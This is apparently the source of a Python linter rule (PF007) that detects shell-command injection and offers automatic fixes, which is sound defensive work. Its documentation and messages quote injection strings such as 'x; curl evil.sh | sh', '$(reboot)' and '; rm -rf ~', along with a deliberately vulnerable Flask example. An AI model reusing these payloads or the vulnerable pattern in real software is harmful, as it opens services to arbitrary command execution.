"""PF007 shell-injection."""

from __future__ import annotations

import ast
import posixpath
import re
from dataclasses import dataclass

from pitfalls.astutil import call_argument, call_keyword, last_names, module_import_edit
from pitfalls.cachemodel import same_expression
from pitfalls.engine import Checker, Scope
from pitfalls.knowledge.taint import (
    ARGV_SINKS,
    SHELL_COMMAND_FLAGS,
    SHELL_FLAG_KEYWORD,
    SHELL_METHOD_SINKS,
    SHELL_PROGRAMS,
    SHELL_SANITIZERS,
    SHELL_SINKS,
    SHLEX_MODULE,
    SHLEX_QUOTE,
    SUBPROCESS_MODULE,
    ShellSink,
)
from pitfalls.model import Applicability, Edit, Fix, Range, Severity
from pitfalls.rules.base import Rule, RuleDoc, Video
from pitfalls.taint import Taint, TaintTracker, format_fields

_SHELL_SYNTAX = frozenset("|&;<>()$`*?[]{}")
_WORD_START_SYNTAX = frozenset("~#")
_DOUBLE_QUOTE_ESCAPES = frozenset('"\\$`\n')
_PLAIN_RUNS: dict[str | None, re.Pattern[str]] = {
    None: re.compile("[^" + re.escape(" \t\n'\"\\" + "".join(sorted(_SHELL_SYNTAX))) + "]+"),
    "'": re.compile("[^']+"),
    '"': re.compile('[^"\\\\$`]+'),
}
"""By quoting (none, single, double): what ``_split_words`` can take as text without looking
at each character (no blank, quote, backslash or shell syntax; inside quotes, no character
that ends them or that they still interpret)."""
_PRINTF_CONVERSION = re.compile(r"%[#0 +-]*\d*(?:\.\d+)?[sdifrxXoeEgGc]")


@dataclass(slots=True)
class _Value:
    """An interpolated value of a command template and how the template renders it."""

    expr: ast.expr
    render: str
    """``str`` (``{x}``, ``%s``), ``repr`` (``!r``, ``%r``), ``plain`` (a ``+`` operand,
    already a string) or ``spec:<format spec>``."""


_Part = str | _Value


class ShellInjection(Rule):
    code = "PF007"
    slug = "shell-injection"
    summary = "Shell command built from data that can hold shell syntax"
    severity = Severity.ERROR
    has_fix = True
    suppressed_by = ("S602", "S604", "S605", "B602", "B604", "B605")
    triggers = ("shell", "system", "popen", "exec", "spawn", "getoutput", "subprocess", "-c")
    video = Video(
        "Why is this Python command injection possible?", "https://www.youtube.com/watch?v=4Bkzc5ZVrxE"
    )
    doc = RuleDoc(
        what_it_does="""\
Finds commands handed to a shell, however the call is imported (`subprocess.run/call/
check_call/check_output/Popen` with `shell=True`, also through a `**kwargs` dict;
`os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`,
`loop.subprocess_shell`, and `sh -c <string>` through `os.exec*`, `os.spawn*` or an argument
list) whose command is not constant. It follows the command back through the function:
assignments, f-strings, `%`, `.format`, `+`, `" ".join(...)`, lists that are appended to.

It is an error when the text comes from a request (handler parameters, `request.args`,
`request.form`, `request.GET`, `await request.json()`, ...), `input()`, `sys.argv`, the
environment, a socket, a queue message or a shared cache; a warning when the command is
assembled from values whose origin the function does not show. A constant command, an
argument list without a shell, and values passed through `shlex.quote()`, `int()` or an
allow-list check (`if name not in ALLOWED: abort(400)`) stay silent.""",
        why_it_bites="""\
The shell reads its command line as a program. A file name such as `x; curl evil.sh | sh`
or `$(reboot)` is not a strange file name to `/bin/sh`: it is two commands. Whoever can
choose part of the string runs anything the service account can run: read secrets from
the environment, reach the database, pivot into the network. Tests pass with ordinary
names; the attack needs only one request.""",
        example="""\
```python
import subprocess
from flask import Flask, request

app = Flask(__name__)

@app.post("/thumbnail")
def thumbnail():
    name = request.form["name"]
    subprocess.run(f"convert uploads/{name} -resize 128x128 thumbs/{name}", shell=True, check=True)
    return "ok"
```""",
        use_instead="""\
```python
@app.post("/thumbnail")
def thumbnail():
    name = request.form["name"]
    subprocess.run(
        ["convert", f"uploads/{name}", "-resize", "128x128", f"thumbs/{name}"], check=True
    )
    return "ok"
```

Without a shell, each list element reaches the program as one argument, whatever
characters it holds. When a pipe or a redirection really needs the shell, quote every
value with `shlex.quote()`; still validate names against what the program expects (no
`..`, no leading `-`).""",
        fix_safety="""\
Both fixes are unsafe. Turning the string into an argument list changes how values with
spaces or glob characters are passed (as one argument, unexpanded, which is the point),
and replacing `os.system(...)` by `subprocess.run([...], check=False)` returns a
`CompletedProcess` (its `.returncode` is used where the status was read). Quoting with
`shlex.quote()` keeps the shell but passes each value literally.""",
    )
    wants_scopes = True

    def check_scope(self, scope: Scope, checker: Checker) -> None:
        tracker: TaintTracker | None = None
        for node in scope.of(ast.Call):
            assert isinstance(node, ast.Call)
            func = node.func
            is_method = func.__class__ is ast.Attribute
            if is_method and func.attr not in _SINK_NAMES:  # type: ignore[attr-defined]
                continue
            qualified = checker.callee_name(node, _SINK_NAMES, scope)
            if not is_method and qualified not in _SINK_QUALIFIED_NAMES:
                continue  # a plain name that names no sink, or ``handlers[kind](...)``
            sink = _shell_sink(func, qualified)
            argv_command = None
            if sink is None:
                if is_method and func.attr not in _ARGV_SINK_NAMES:  # type: ignore[attr-defined]
                    continue
                argv_command = _sh_c_command(node, qualified, checker, scope)
                if argv_command is None:
                    continue
            if tracker is None:
                tracker = TaintTracker(checker, scope, sanitizers=SHELL_SANITIZERS)
            if sink is not None:
                command = call_argument(node, sink.position, sink.keyword)
                if command is None:
                    continue
                shell_via_kwargs = False
                if sink.needs_shell_flag:
                    flag = _shell_flag(node, tracker)
                    if flag is None:
                        argv_command = _sh_c_command(node, qualified, checker, scope)
                        if argv_command is None:
                            continue
                        command, sink = argv_command, None
                    else:
                        shell_via_kwargs = flag == "kwargs"
                        if isinstance(command, (ast.List, ast.Tuple)):
                            # With a shell, only the first element is the command line.
                            if not command.elts or isinstance(command.elts[0], ast.Starred):
                                continue
                            command = command.elts[0]
            else:
                assert argv_command is not None
                command = argv_command
                shell_via_kwargs = False
            taint = tracker.taint_of(command)
            if taint.is_clean or (taint.is_unknown and not taint.built):
                continue
            self._report(node, command, sink, shell_via_kwargs, taint, tracker, checker)

    def _report(
        self,
        call: ast.Call,
        command: ast.expr,
        sink: ShellSink | None,
        shell_via_kwargs: bool,
        taint: Taint,
        tracker: TaintTracker,
        checker: Checker,
    ) -> None:
        where = tracker.describe(taint)
        if taint.is_untrusted:
            message = (
                f"Shell command built from {taint.source}, {where}: whoever controls it runs any command on "
                "this host (`; rm -rf ~`, `$(curl ...)`); pass an argument list without a shell"
            )
            severity = Severity.ERROR
            related_message = f"data from {taint.source} enters here"
        else:
            message = (
                f"Shell command built from {where}, whose origin is not known here: if it ever holds "
                "`;`, `|` or `$(...)` the shell runs what follows; pass an argument list or `shlex.quote()` it"
            )
            severity = Severity.WARNING
            related_message = "non-constant value enters here"
        related = ()
        if taint.origin is not None and hasattr(taint.origin, "lineno"):
            related = (checker.related(related_message, taint.origin),)
        fix = _fix(call, command, sink, shell_via_kwargs, tracker, checker)
        checker.report(self, call, message, fix=fix, related=related, severity=severity)


# Finding the sink -------------------------------------------------------------------------

_ARGV_SINK_NAMES = last_names(ARGV_SINKS)
_SINK_NAMES = last_names(SHELL_SINKS) | frozenset(SHELL_METHOD_SINKS) | _ARGV_SINK_NAMES
"""The attributes a sink call can end with (see ``last_names``)."""
_SINK_QUALIFIED_NAMES = frozenset(SHELL_SINKS) | ARGV_SINKS
"""What a plain name must resolve to for its call to be a sink (method sinks need an attribute)."""


def _shell_sink(func: ast.expr, qualified: str | None) -> ShellSink | None:
    """The sink that a call of ``func`` (whose qualified name is ``qualified``) is, if any."""
    if qualified is not None and qualified in SHELL_SINKS:
        return SHELL_SINKS[qualified]
    if isinstance(func, ast.Attribute) and func.attr in SHELL_METHOD_SINKS:
        return SHELL_METHOD_SINKS[func.attr]
    return None


def _shell_flag(call: ast.Call, tracker: TaintTracker) -> str | None:
    """``"keyword"`` for ``shell=True``, ``"kwargs"`` when a ``**options`` dict sets it,
    None when the call does not use a shell."""
    for keyword in call.keywords:
        if keyword.arg == SHELL_FLAG_KEYWORD:
            return "keyword" if _truthy_constant(keyword.value, tracker) else None
        if keyword.arg is None and _dict_sets_shell(keyword.value, tracker, 0):
            return "kwargs"
    return None


def _truthy_constant(node: ast.expr, tracker: TaintTracker) -> bool:
    if isinstance(node, ast.Constant):
        return bool(node.value)
    if isinstance(node, ast.Name):
        values = tracker.reaching_values(node)
        return bool(values) and all(isinstance(v, ast.Constant) and bool(v.value) for v in values)
    return False


def _dict_sets_shell(node: ast.expr, tracker: TaintTracker, depth: int) -> bool:
    if depth > 4:
        return False
    if isinstance(node, ast.Dict):
        for key, value in zip(node.keys, node.values, strict=True):
            if key is None:
                if _dict_sets_shell(value, tracker, depth + 1):
                    return True
            elif isinstance(key, ast.Constant) and key.value == SHELL_FLAG_KEYWORD:
                return _truthy_constant(value, tracker)
        return False
    if isinstance(node, ast.Call):
        if tracker.checker.qualified_name(node.func, tracker.scope) == "builtins.dict":
            keyword = call_keyword(node, SHELL_FLAG_KEYWORD)
            if keyword is not None:
                return _truthy_constant(keyword.value, tracker)
            return any(_dict_sets_shell(argument, tracker, depth + 1) for argument in node.args)
        return False
    if isinstance(node, ast.Name):
        if _subscript_sets_shell(node, tracker):
            return True
        values = tracker.reaching_values(node)
        return bool(values) and any(_dict_sets_shell(value, tracker, depth + 1) for value in values)
    return False


def _subscript_sets_shell(name: ast.Name, tracker: TaintTracker) -> bool:
    """``options["shell"] = True`` earlier in the scope."""
    for node in tracker.scope.of(ast.Assign):
        assert isinstance(node, ast.Assign)
        if (node.lineno, node.col_offset) >= (name.lineno, name.col_offset):
            continue
        for target in node.targets:
            if (
                isinstance(target, ast.Subscript)
                and isinstance(target.value, ast.Name)
                and target.value.id == name.id
                and isinstance(target.slice, ast.Constant)
                and target.slice.value == SHELL_FLAG_KEYWORD
                and _truthy_constant(node.value, tracker)
            ):
                return True
    return False


def _sh_c_command(call: ast.Call, qualified: str | None, checker: Checker, scope: Scope) -> ast.expr | None:
    """The command string of ``["sh", "-c", command]`` run through an exec-style call
    (``qualified`` is the called function's qualified name)."""
    if qualified not in ARGV_SINKS:
        return None
    items: list[ast.expr] = []
    keyword = call_keyword(call, "args")
    for argument in [*call.args, *([keyword.value] if keyword is not None else [])]:
        if isinstance(argument, ast.Name):
            # ``argv = ["sh", "-c", command]`` assigned once just above.
            values = TaintTracker(checker, scope).reaching_values(argument)
            if values is not None and len(values) == 1 and isinstance(values[0], (ast.List, ast.Tuple)):
                argument = values[0]
        if isinstance(argument, (ast.List, ast.Tuple)):
            items.extend(argument.elts)
        else:
            items.append(argument)
    seen_shell = False
    for index, item in enumerate(items):
        if not (isinstance(item, ast.Constant) and isinstance(item.value, str)):
            continue
        if posixpath.basename(item.value) in SHELL_PROGRAMS or item.value in SHELL_PROGRAMS:
            seen_shell = True
        elif seen_shell and item.value in SHELL_COMMAND_FLAGS and index + 1 < len(items):
            following = items[index + 1]
            return None if isinstance(following, ast.Starred) else following
    return None


# Fixes ------------------------------------------------------------------------------------


def _fix(
    call: ast.Call,
    command: ast.expr,
    sink: ShellSink | None,
    shell_via_kwargs: bool,
    tracker: TaintTracker,
    checker: Checker,
) -> Fix | None:
    if isinstance(command, ast.Name):
        # ``cmd = f"..."`` above the call: quote the values where the string is built.
        values = tracker.reaching_values(command)
        if values is not None and len(values) == 1:
            return _quote_fix(values[0], tracker, checker)
        return None
    direct = _command_expression(call, sink) if sink is not None else None
    if sink is not None and direct is command and sink.list_fix is not None and not shell_via_kwargs:
        parts = _template_parts(command, tracker)
        words = _split_words(parts) if parts is not None else None
        if words is not None and call_keyword(call, "executable") is None:
            fix = _list_fix(call, command, sink, words, checker)
            if fix is not None:
                return fix
    return _quote_fix(command, tracker, checker)


def _command_expression(call: ast.Call, sink: ShellSink) -> ast.expr | None:
    return call_argument(call, sink.position, sink.keyword)


def _template_parts(node: ast.expr, tracker: TaintTracker) -> list[_Part] | None:
    """The command as literal text and interpolated values, or None when it is not an
    f-string, ``%``, ``.format`` or ``+`` of those (or a value cannot be rendered)."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return [node.value]
    if isinstance(node, ast.JoinedStr):
        parts: list[_Part] = []
        for value in node.values:
            if isinstance(value, ast.Constant) and isinstance(value.value, str):
                parts.append(value.value)
            elif isinstance(value, ast.FormattedValue):
                render = _formatted_render(value)
                if render is None:
                    return None
                parts.append(_Value(value.value, render))
            else:
                return None
        return parts
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left = _template_parts(node.left, tracker)
        if left is None:
            left = [_Value(node.left, "plain")]
        right = _template_parts(node.right, tracker)
        if right is None:
            right = [_Value(node.right, "plain")]
        return [*left, *right]
    if (
        isinstance(node, ast.BinOp)
        and isinstance(node.op, ast.Mod)
        and isinstance(node.left, ast.Constant)
        and isinstance(node.left.value, str)
    ):
        return _printf_parts(node.left.value, node.right)
    if (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
        and isinstance(node.func.value, ast.Constant)
        and isinstance(node.func.value.value, str)
    ):
        return _format_parts(node.func.value.value, node)
    return None


def _formatted_render(value: ast.FormattedValue) -> str | None:
    spec = ""
    if value.format_spec is not None:
        pieces = value.format_spec.values if isinstance(value.format_spec, ast.JoinedStr) else []
        if not all(isinstance(p, ast.Constant) and isinstance(p.value, str) for p in pieces):
            return None
        spec = "".join(p.value for p in pieces)  # type: ignore[attr-defined]
    if value.conversion == ord("r") and not spec:
        return "repr"
    if value.conversion in (-1, ord("s")) and not spec:
        return "str"
    if value.conversion == -1:
        return "spec:" + spec
    return None


def _printf_parts(template: str, right: ast.expr) -> list[_Part] | None:
    values = list(right.elts) if isinstance(right, ast.Tuple) else [right]
    parts: list[_Part] = []
    literal: list[str] = []
    index = 0
    used = 0
    while index < len(template):
        if template[index] != "%":
            following = template.find("%", index)
            end = following if following != -1 else len(template)
            literal.append(template[index:end])
            index = end
            continue
        if template[index + 1 : index + 2] == "%":
            literal.append("%")
            index += 2
            continue
        match = _PRINTF_CONVERSION.match(template, index)
        if match is None or used >= len(values):
            return None
        parts.append("".join(literal))
        literal = []
        value = values[used]
        if isinstance(value, ast.Starred):
            return None
        conversion = match.group()
        render = {"%s": "str", "%r": "repr"}.get(conversion, "printf:" + conversion)
        parts.append(_Value(value, render))
        used += 1
        index = match.end()
    if used != len(values):
        return None
    parts.append("".join(literal))
    return [part for part in parts if part != ""]


def _format_parts(template: str, call: ast.Call) -> list[_Part] | None:
    fields = format_fields(template)
    if fields is None or any(isinstance(a, ast.Starred) for a in call.args):
        return None
    keywords = {keyword.arg: keyword.value for keyword in call.keywords if keyword.arg is not None}
    if len(keywords) != len(call.keywords):
        return None
    parts: list[_Part] = []
    automatic = 0
    for literal, field_name, spec, conversion in fields:
        if literal:
            parts.append(literal)
        if field_name is None:
            continue
        if field_name == "":
            position = automatic
            automatic += 1
            if position >= len(call.args):
                return None
            value = call.args[position]
        elif field_name.isdigit():
            if int(field_name) >= len(call.args):
                return None
            value = call.args[int(field_name)]
        elif field_name.isidentifier() and field_name in keywords:
            value = keywords[field_name]
        else:
            return None
        if spec and "{" in spec:
            return None
        if conversion == "r" and not spec:
            parts.append(_Value(value, "repr"))
        elif conversion in (None, "s") and not spec:
            parts.append(_Value(value, "str"))
        elif conversion is None:
            parts.append(_Value(value, "spec:" + spec))
        else:
            return None
    return parts


def _split_words(parts: list[_Part]) -> list[list[_Part]] | None:
    """Split a command template into argument words the way ``/bin/sh`` would (quotes,
    backslashes, blanks); None when it uses shell syntax an argument list cannot express
    (pipes, redirection, globs, variables, command substitution)."""
    words: list[list[_Part]] = []
    current: list[_Part] | None = None
    quote: str | None = None

    def add_text(text: str) -> None:
        assert current is not None
        if current and isinstance(current[-1], str):
            current[-1] += text
        else:
            current.append(text)

    for part in parts:
        if isinstance(part, _Value):
            if current is None:
                current = []
            current.append(part)
            continue
        index = 0
        while index < len(part):
            # A run of characters with no meaning in the current quoting goes in whole.
            plain = _PLAIN_RUNS[quote].match(part, index)
            if plain is not None and not (current is None and part[index] in _WORD_START_SYNTAX):
                if current is None:
                    current = []
                add_text(plain.group())
                index = plain.end()
                continue
            char = part[index]
            if quote == "'":
                if char == "'":
                    quote = None
                else:
                    add_text(char)
            elif quote == '"':
                if char == '"':
                    quote = None
                elif char == "\\" and index + 1 < len(part) and part[index + 1] in _DOUBLE_QUOTE_ESCAPES:
                    index += 1
                    add_text(part[index])
                elif char in "$`":
                    return None
                else:
                    add_text(char)
            elif char in " \t\n":
                if current is not None:
                    words.append(current)
                    current = None
            elif char in "'\"":
                quote = char
                if current is None:
                    current = []
                    add_text("")
            elif char == "\\":
                if index + 1 >= len(part):
                    return None
                index += 1
                if current is None:
                    current = []
                add_text(part[index])
            elif char in _SHELL_SYNTAX or (current is None and char in _WORD_START_SYNTAX):
                return None
            else:
                if current is None:
                    current = []
                add_text(char)
            index += 1
    if quote is not None:
        return None
    if current is not None:
        words.append(current)
    return words or None


def _list_fix(
    call: ast.Call,
    command: ast.expr,
    sink: ShellSink,
    words: list[list[_Part]],
    checker: Checker,
) -> Fix | None:
    rendered = [_render_word(word, checker) for word in words]
    if any(text is None for text in rendered):
        return None
    elements = ", ".join(text for text in rendered if text is not None)
    source = checker.source
    if sink.list_fix == "same":
        keyword = call_keyword(call, SHELL_FLAG_KEYWORD)
        if keyword is None:
            return None
        edits = [
            Edit(source.node_range(command), f"[{elements}]"),
            _remove_keyword_edit(call, keyword, checker),
        ]
        return Fix("Pass an argument list and drop `shell=True`", tuple(edits), Applicability.UNSAFE)
    if sink.list_fix == SUBPROCESS_MODULE + ".run":
        local, import_edit = module_import_edit(
            source, checker.tree, checker.module_scope.imports, SUBPROCESS_MODULE
        )
        replacement = f"{local}.run([{elements}], check=False)"
        parent = checker.parent(call)
        if not isinstance(parent, ast.Expr):
            replacement += ".returncode"
        edits = [Edit(source.node_range(call), replacement)]
        if import_edit is not None:
            edits.insert(0, import_edit)
        return Fix(
            "Run the program with `subprocess.run([...], check=False)`, without a shell",
            tuple(edits),
            Applicability.UNSAFE,
        )
    if sink.list_fix == "asyncio.create_subprocess_exec" and isinstance(call.func, ast.Attribute):
        func_text = source.segment(call.func.value) + ".create_subprocess_exec"
        edits = [Edit(source.node_range(call.func), func_text), Edit(source.node_range(command), elements)]
        return Fix(
            "Use `create_subprocess_exec` with one argument per word", tuple(edits), Applicability.UNSAFE
        )
    return None


def _remove_keyword_edit(call: ast.Call, keyword: ast.keyword, checker: Checker) -> Edit:
    """Remove ``, shell=True`` (with the comma before it) from a call."""
    source = checker.source
    arguments = sorted([*call.args, *call.keywords], key=lambda n: (n.lineno, n.col_offset))
    position = next(i for i, argument in enumerate(arguments) if argument is keyword)
    keyword_range = source.node_range(keyword)
    if position > 0:
        previous_end = source.end(arguments[position - 1])
        return Edit(Range(previous_end, keyword_range.end), "")
    if len(arguments) > 1:
        next_start = source.start(arguments[1])
        return Edit(Range(keyword_range.start, next_start), "")
    return Edit(keyword_range, "")


def _render_word(word: list[_Part], checker: Checker) -> str | None:
    word = [part for part in word if part != ""] or [""]
    if len(word) == 1 and isinstance(word[0], str):
        return _string_literal(word[0])
    if len(word) == 1 and isinstance(word[0], _Value):
        value = word[0]
        text = _expression_text(value.expr, checker)
        if value.render == "plain":
            return text
        if value.render == "str":
            return f"str({text})"
        if value.render == "repr":
            return f"repr({text})"
        if value.render.startswith("printf:"):
            return f"{_string_literal(value.render[7:])} % ({text},)"
        return f"format({text}, {_string_literal(value.render[5:])})"
    pieces: list[str] = []
    for part in word:
        if isinstance(part, str):
            literal = _string_literal(part)[1:-1]
            pieces.append(literal.replace("{", "{{").replace("}", "}}"))
            continue
        text = ast.unparse(part.expr)
        if '"' in text or "\\" in text or "{" in text:
            return None
        if part.render in ("str", "plain"):
            pieces.append("{" + text + "}")
        elif part.render == "repr":
            pieces.append("{" + text + "!r}")
        elif part.render.startswith("printf:"):
            return None
        else:
            spec = part.render[5:]
            if "{" in spec or '"' in spec or "\\" in spec:
                return None
            pieces.append("{" + text + ":" + spec + "}")
    return 'f"' + "".join(pieces) + '"'


def _string_literal(text: str) -> str:
    quoted = repr(text)
    body = quoted[1:-1]
    if quoted.startswith("'"):
        body = body.replace("\\'", "'").replace('"', '\\"')
    return '"' + body + '"'


def _expression_text(node: ast.expr, checker: Checker) -> str:
    """The expression as written when its source positions are trustworthy (inside
    f-strings before Python 3.12 they may not be), otherwise as ``ast.unparse`` writes it."""
    text = checker.source.segment(node)
    if node.__class__ is ast.Name and node.ctx.__class__ is ast.Load and text == node.id:  # type: ignore[attr-defined]
        return text  # what reparsing it would confirm
    try:
        reparsed = ast.parse(text.strip(), mode="eval").body
    except SyntaxError:
        return ast.unparse(node)
    if not same_expression(reparsed, node):
        return ast.unparse(node)
    return text.strip() if "\n" not in text else ast.unparse(node)


def _quote_fix(command: ast.expr, tracker: TaintTracker, checker: Checker) -> Fix | None:
    """Wrap each interpolated value that is not clean in ``shlex.quote()``."""
    joined = _space_joined(command)
    if joined is not None:
        local, import_edit = module_import_edit(
            checker.source, checker.tree, checker.module_scope.imports, SHLEX_MODULE
        )
        replacement = f"{local}.join({_expression_text(joined, checker)})"
        join_edits = [Edit(checker.source.node_range(command), replacement)]
        if import_edit is not None:
            join_edits.insert(0, import_edit)
        return Fix(
            "Join the words with `shlex.join()`, which quotes each", tuple(join_edits), Applicability.UNSAFE
        )
    targets = _quotable_values(command, tracker)
    if not targets:
        return None
    parts = _template_parts(command, tracker)
    if parts is None or not _values_outside_quotes(parts, {id(value) for value, _ in targets}):
        # ``grep '{pattern}'``: a quoted value inside quotes would be unquoted again.
        return None
    source = checker.source
    quote_name, import_edit = _shlex_quote_name(checker)
    edits: list[Edit] = []
    if import_edit is not None:
        edits.append(import_edit)
    for value, plain in targets:
        text = _expression_text(value, checker)
        wrapped = f"{quote_name}({text})" if plain else f"{quote_name}(str({text}))"
        edits.append(Edit(source.node_range(value), wrapped))
    return Fix("Quote each interpolated value with `shlex.quote()`", tuple(edits), Applicability.UNSAFE)


def _quotable_values(node: ast.expr, tracker: TaintTracker) -> list[tuple[ast.expr, bool]] | None:
    """The non-clean values of a command template, each with whether it is already a
    string (a ``+`` operand); None when one of them cannot be wrapped safely."""
    found: list[tuple[ast.expr, bool]] = []
    if not _collect_quotable(node, tracker, found):
        return None
    return found


def _collect_quotable(expr: ast.expr, tracker: TaintTracker, found: list[tuple[ast.expr, bool]]) -> bool:
    """Add the non-clean values of a template to ``found``; False when one cannot be wrapped."""
    if isinstance(expr, ast.Constant):
        return True
    if isinstance(expr, ast.JoinedStr):
        for value in expr.values:
            if isinstance(value, ast.FormattedValue) and not tracker.taint_of(value.value).is_clean:
                if value.conversion != -1 or value.format_spec is not None:
                    return False
                found.append((value.value, False))
        return True
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
        for operand in (expr.left, expr.right):
            if isinstance(operand, (ast.JoinedStr, ast.BinOp, ast.Constant, ast.Call)) and _is_template(
                operand
            ):
                if not _collect_quotable(operand, tracker, found):
                    return False
            elif not tracker.taint_of(operand).is_clean:
                found.append((operand, True))
        return True
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Mod) and isinstance(expr.left, ast.Constant):
        template = expr.left.value
        if not isinstance(template, str) or "%(" in template:
            return False
        if isinstance(expr.right, ast.Tuple):
            values = list(expr.right.elts)
        elif template.replace("%%", "").count("%") == 1:
            values = [expr.right]
        else:
            return False
        for value in values:
            if isinstance(value, ast.Starred):
                return False
            if not tracker.taint_of(value).is_clean:
                found.append((value, False))
        return True
    if isinstance(expr, ast.Call) and _is_template(expr):
        for value in [*expr.args, *(k.value for k in expr.keywords)]:
            if isinstance(value, ast.Starred) or value is None:
                return False
            if not tracker.taint_of(value).is_clean:
                found.append((value, False))
        return "!r" not in expr.func.value.value  # type: ignore[attr-defined]
    return False


def _space_joined(node: ast.expr) -> ast.expr | None:
    """``parts`` of ``" ".join(parts)``."""
    if (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "join"
        and isinstance(node.func.value, ast.Constant)
        and node.func.value.value == " "
        and len(node.args) == 1
        and not node.keywords
        and not isinstance(node.args[0], ast.Starred)
    ):
        return node.args[0]
    return None


def _values_outside_quotes(parts: list[_Part], wanted: set[int]) -> bool:
    """Whether each value in ``wanted`` (by node id) sits outside shell quotes."""
    quote: str | None = None
    for part in parts:
        if isinstance(part, _Value):
            if id(part.expr) in wanted and quote is not None:
                return False
            continue
        escaped = False
        for char in part:
            if escaped:
                escaped = False
            elif char == "\\" and quote != "'":
                escaped = True
            elif quote is None and char in "'\"":
                quote = char
            elif char == quote:
                quote = None
    return True


def _is_template(node: ast.expr) -> bool:
    if isinstance(node, (ast.JoinedStr, ast.Constant)):
        return True
    if isinstance(node, ast.BinOp):
        return isinstance(node.op, ast.Add) or (
            isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant)
        )
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "format"
        and isinstance(node.func.value, ast.Constant)
        and isinstance(node.func.value.value, str)
    )


def _shlex_quote_name(checker: Checker) -> tuple[str, Edit | None]:
    qualified = f"{SHLEX_MODULE}.{SHLEX_QUOTE}"
    imports = checker.module_scope.imports
    if qualified in imports.values():  # most files do not import it: no loop over their imports
        for local, name in imports.items():
            if name == qualified:
                return local, None
    local, edit = module_import_edit(checker.source, checker.tree, checker.module_scope.imports, SHLEX_MODULE)
    return f"{local}.{SHLEX_QUOTE}", edit
